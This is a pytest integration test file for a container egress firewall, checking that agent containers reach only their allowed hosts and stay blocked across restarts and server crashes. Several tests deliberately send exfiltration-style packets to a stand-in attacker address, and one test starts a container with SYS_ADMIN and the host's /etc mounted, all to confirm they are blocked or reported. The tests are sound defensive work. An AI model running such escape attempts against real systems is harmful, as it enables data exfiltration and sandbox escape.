"""
Real containers of a real daemon: what each reaches, what happens when they, the daemon or the server die.
"""

from __future__ import annotations

import asyncio
import signal
from collections.abc import AsyncIterator, Awaitable, Callable
from typing import Any

import pytest
import pytest_asyncio

from clawker_cp.testing.docker_machine import NETWORK, DockerMachine, docker_machine
from clawker_cp.testing.docker_world import missing
from clawker_cp.testing.served import Served, serving

pytestmark = [
    pytest.mark.root, pytest.mark.slow, pytest.mark.docker, pytest.mark.envoy, pytest.mark.timeout(300),
    pytest.mark.asyncio(loop_scope="module"), pytest.mark.skipif(bool(missing()), reason=missing() or "-"),
]  # fmt: skip

CURL = ("/usr/bin/curl", "-sS", "-m", "10", "-o", "/dev/null", "-w", "%{http_code}")
EVIL = "203.0.113.66"


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def machine() -> AsyncIterator[DockerMachine]:
    async with docker_machine(live_restore=True) as made:
        yield made


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def served(machine: DockerMachine) -> AsyncIterator[Served]:
    async with serving(machine.machine) as served:
        done = await machine.ctl("allow", "http://api.example.com", "--project", "shop")
        assert done.code == 0, done.err
        done = await machine.ctl("allow", "http://git.example.org", "--agent", "blog/writer")
        assert done.code == 0, done.err
        yield served


async def until(what: Callable[[], Awaitable[bool]], limit_s: float = 15.0) -> None:
    """Ask again until it is so; every question is a call of its own, so the loop never spins."""
    async with asyncio.timeout(limit_s):
        while not await what():
            await asyncio.sleep(0.05)


async def start(machine: DockerMachine, project: str, agent: str, **options: Any) -> str:
    options.setdefault("network", NETWORK)
    container = await machine.docker.agent(agent, project=project, usr=True, **options)
    await machine.wait_enrolled(container)
    return container


async def status(machine: DockerMachine, container: str, url: str) -> tuple[int, str]:
    done = await machine.inside(container, *CURL, url)
    return done.code, done.out


async def test_two_projects_reach_exactly_what_their_rules_allow(machine: DockerMachine, served: Served) -> None:
    """Each container resolves and reaches its own names, the other's not, and neither reaches the other."""
    shop = await start(machine, "shop", "dev")
    blog = await start(machine, "blog", "writer")

    assert await status(machine, shop, "http://api.example.com/x") == (0, "200")
    assert (await status(machine, shop, "http://git.example.org/x"))[0] == 6
    assert (await status(machine, blog, "http://api.example.com/x"))[0] == 6
    assert (await status(machine, blog, "http://git.example.org/x"))[0] == 0
    agents = {one["agent"]: one for one in await machine.agents()}
    assert {agents["dev"]["project"], agents["writer"]["project"]} == {"shop", "blog"}
    other = agents["dev"]["address"]
    listener = "import socket\nl=socket.create_server(('0.0.0.0', 8099))\nprint('up', flush=True)\nl.accept()"
    listening = await machine.machine.host.start(
        ["docker", "exec", shop, "/usr/bin/python3", "-c", listener],
        env=machine.machine.environment, stdout=asyncio.subprocess.PIPE,
    )  # fmt: skip
    assert listening.stdout is not None and (await listening.stdout.readline()) == b"up\n"
    reached = await machine.python(
        blog,
        f"import socket\ntry:\n s=socket.create_connection(({other!r}, 8099), 2); s.send(b'hi'); print('reached')"
        "\nexcept OSError as e: print('refused', e.errno)",
    )
    assert reached.out.startswith("refused"), reached
    for container in (shop, blog):
        await machine.docker.client.remove(container, force=True)
    await listening.wait()


async def test_a_container_is_denied_from_its_first_packet(machine: DockerMachine, served: Served) -> None:
    """A process that floods from its first instruction gets nothing out before its rules hold (I4)."""
    await machine.machine.world.reset()
    code = (
        "import socket,time\n"
        "end=time.time()+3\n"
        "u=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\n"
        "while time.time()<end:\n"
        f"  for port in (53,443,5000):\n"
        f"    try: u.sendto(b'escaped-first',({EVIL!r},port))\n"
        "    except OSError: pass\n"
        "  try:\n"
        f"    t=socket.socket(); t.settimeout(0.05); t.connect(({EVIL!r},443)); t.send(b'escaped-first')\n"
        "  except OSError: pass\n"
    )
    container = await machine.docker.agent(
        "first", "/usr/bin/python3", "-c", code, project="shop", usr=True, network=NETWORK
    )
    assert await machine.docker.client.wait(container, limit_s=30) == 0
    packets = await machine.machine.world.packets(dst=EVIL)
    await machine.docker.client.remove(container, force=True)

    assert packets == []


async def test_the_engines_resolver_is_no_way_out(machine: DockerMachine, served: Served) -> None:
    """Row 33: port 53 of 127.0.0.11 is the gate, every other port of it is refused and recorded."""
    container = await start(machine, "shop", "resolver")
    code = """
import socket
ports = set()
for kind in ("udp", "tcp"):
    for line in open(f"/proc/net/{kind}").read().splitlines()[1:]:
        address, port = line.split()[1].split(":")
        if address == "0B00007F":
            ports.add((kind, int(port, 16)))
for kind, port in sorted(ports):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM if kind == "udp" else socket.SOCK_STREAM)
    s.settimeout(2)
    try:
        s.connect(("127.0.0.11", port))
        s.send(b"\\x00\\x01\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x05other\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01")
        print(kind, port, "answered", s.recv(512)[:4])
    except OSError as error:
        print(kind, port, "refused", error.errno)
"""
    done = await machine.python(container, code)

    async def recorded() -> bool:
        flows = await machine.flows("--agent", "shop/resolver", "--last", "100")
        return any(flow.get("reason") == "engine_resolver" for flow in flows)

    await until(recorded)
    await machine.docker.client.remove(container, force=True)
    lines = done.out.split("\n")

    assert [line for line in lines if line], "the engine's resolver has ports of its own"
    assert [line for line in lines if "answered" in line] == []


async def test_exposures_are_shown(machine: DockerMachine, served: Served) -> None:
    """Row 34: what the owner gave away is listed with the agent and in health; the agent is enforced all the same."""
    container = await start(
        machine, "shop", "exposed",
        host_config={"NetworkMode": NETWORK, "CapAdd": ["SYS_ADMIN"], "Binds": ["/etc:/hostetc"]},
    )  # fmt: skip
    (shown,) = [one for one in await machine.agents() if one["container_id"] == container]
    denied = await status(machine, container, f"http://{EVIL}/")
    seen: list[str] = []

    async def degraded() -> bool:
        (agents,) = [one for one in (await machine.told("status"))["components"] if one["name"] == "agents"]
        seen.append(agents.get("detail", ""))
        return "exposed by their owner" in seen[-1]

    await until(degraded)
    await machine.docker.client.remove(container, force=True)

    assert {"capability:SYS_ADMIN", "mount:/etc"} <= set(shown["exposures"])
    assert "shop/exposed: capability:SYS_ADMIN" in seen[-1]
    assert denied[0] != 0 or denied[1] == "403"


async def test_a_restart_is_enrolled_again(machine: DockerMachine, served: Served) -> None:
    """`docker restart` gives the agent a new cgroup, which is enforced like the first; a pause changes nothing."""
    container = await start(machine, "shop", "again")
    first = (await machine.docker.client.inspect(container))["State"]["Pid"]
    await machine.docker.client.stop(container, grace_s=0)
    await machine.docker.client.start(container)
    await machine.wait_enrolled(container)
    second = (await machine.docker.client.inspect(container))["State"]["Pid"]
    reached = await status(machine, container, "http://api.example.com/x")
    await machine.docker.client.pause(container)
    await machine.docker.client.unpause(container)
    after = await status(machine, container, "http://api.example.com/x")
    denied = await status(machine, container, f"http://{EVIL}/")
    await machine.docker.client.remove(container, force=True)

    assert first != second
    assert reached == after == (0, "200")
    assert denied[0] != 0 or denied[1] == "403"


async def test_the_order_of_the_released_cli_is_safe(machine: DockerMachine, served: Served) -> None:
    """Init, add rules, start, enable at once, disable before stop: enforced at every moment, disable refused (6.2)."""
    await served.call(
        """
await client.call("FirewallInit", A.FirewallInitRequest())
rule = A.EgressRule(dst="www.example.com", proto="http")
await client.call("FirewallAddRules", A.FirewallAddRulesRequest(rules=[rule]))
"""
    )
    container = await machine.docker.agent("rel", project="cli", usr=True, network=NETWORK)
    said = await served.call(
        f"""
result["enable"] = await refused(client.call("FirewallEnable", A.FirewallEnableRequest(container_id={container!r})))
result["sessions"] = told(await client.call("ListSessions", C.ListSessionsRequest()))
result["disable"] = await refused(client.call("FirewallDisable", A.FirewallDisableRequest(container_id={container!r})))
result["unknown"] = await refused(client.call("FirewallEnable", A.FirewallEnableRequest(container_id="f" * 64)))
"""
    )
    reached = await status(machine, container, "http://www.example.com/")
    await machine.docker.client.remove(container, force=True)
    gone = await served.call(
        f"""
result["disable"] = await refused(client.call("FirewallDisable", A.FirewallDisableRequest(container_id={container!r})))
"""
    )

    assert said["enable"] is None
    assert [one["enrolled"] for one in said["sessions"]["sessions"] if one["container_id"] == container] == [True]
    assert said["disable"][1] == "AGENT_RUNNING" and said["unknown"][1] == "CONTAINER_GONE"
    assert reached == (0, "200")
    assert gone["disable"] is None


async def test_published_ports_open_from_the_host_only(machine: DockerMachine, served: Served) -> None:
    """A port the owner published answers the host and nobody else; other ports answer nobody (contract 1.3)."""
    code = (
        "import socket,threading,time\n"
        "def serve(port):\n"
        "  l=socket.create_server(('0.0.0.0',port))\n"
        "  while True:\n"
        "    s,_=l.accept(); s.sendall(b'data'); s.close()\n"
        "for p in (8001,8002): threading.Thread(target=serve,args=(p,),daemon=True).start()\n"
        "time.sleep(600)\n"
    )
    container = await machine.docker.agent(
        "pub", "/usr/bin/python3", "-c", code, project="shop", usr=True, network=NETWORK,
        host_config={"NetworkMode": NETWORK, "PortBindings": {"8001/tcp": [{"HostIp": "", "HostPort": "18001"}]}},
        ExposedPorts={"8001/tcp": {}},
    )  # fmt: skip
    await machine.wait_enrolled(container)
    (shown,) = [one for one in await machine.agents() if one["container_id"] == container]
    pull = (
        "import socket,sys\n"
        "try:\n s=socket.create_connection((sys.argv[1],int(sys.argv[2])),3); print(s.recv(9).decode())"
        "\nexcept OSError as e: print('refused')"
    )

    async def from_host(address: str, port: int) -> str:
        done = await machine.machine.host.run(["/usr/bin/python3", "-c", pull, address, str(port)])
        return done.out.strip()

    async def answers() -> bool:
        return await from_host("127.0.0.1", 18001) == "data"

    await until(answers)
    closed = await from_host(shown["address"], 8002)
    await machine.docker.client.remove(container, force=True)

    assert closed in {"refused", ""}


async def test_enforcement_survives_the_death_of_the_server(machine: DockerMachine, served: Served) -> None:
    """After kill -9 of the server nothing opens, what starts meanwhile reaches nothing, the next adopts both (I2)."""
    container = await start(machine, "shop", "kept")
    served.process.send_signal(signal.SIGKILL)
    await served.process.wait()
    denied = await status(machine, container, f"http://{EVIL}/")
    meanwhile = await machine.docker.agent("meanwhile", project="shop", usr=True, network=NETWORK)
    await machine.machine.world.reset()
    unknown = await machine.python(
        meanwhile,
        f"import socket\nu=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\n"
        f"try: u.sendto(b'escaped-dead',({EVIL!r},5000))\nexcept OSError: pass\n"
        f"try:\n s=socket.create_connection(({EVIL!r},443),2); s.send(b'escaped-dead'); print('reached')\n"
        "except OSError as e: print('refused')",
    )
    packets = await machine.machine.world.packets(dst=EVIL)
    async with serving(machine.machine) as again:
        await machine.wait_enrolled(container)
        await machine.wait_enrolled(meanwhile)
        reached = [await status(machine, one, "http://api.example.com/x") for one in (container, meanwhile)]
        for one in (container, meanwhile):
            await machine.docker.client.remove(one, force=True)
        assert await again.stop() == 0

    assert denied[0] != 0 or denied[1] == "403"
    assert unknown.out.strip() == "refused" and packets == []
    assert reached == [(0, "200"), (0, "200")]
